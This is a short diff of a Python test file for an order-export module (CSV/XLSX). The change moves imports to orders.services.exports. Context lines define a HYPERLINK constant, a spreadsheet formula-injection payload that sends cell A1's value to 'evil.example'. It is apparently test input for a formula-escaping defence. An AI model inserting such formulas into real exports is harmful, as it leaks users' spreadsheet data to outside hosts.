@@ -8,8 +8,8 @@ from decimal import Decimal
 import pytest
 from openpyxl import load_workbook
 
-from orders import exports
-from orders.exports import EXPORT_FAILED_ILLEGAL_CHARACTER, csv_chunks, formula_escape, xlsx_file_write
+from orders.services import exports
+from orders.services.exports import EXPORT_FAILED_ILLEGAL_CHARACTER, csv_chunks, formula_escape, xlsx_file_write
 
 HEADERS = ["order_id", "customer_id", "unit_price", "order_date", "source_line"]
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
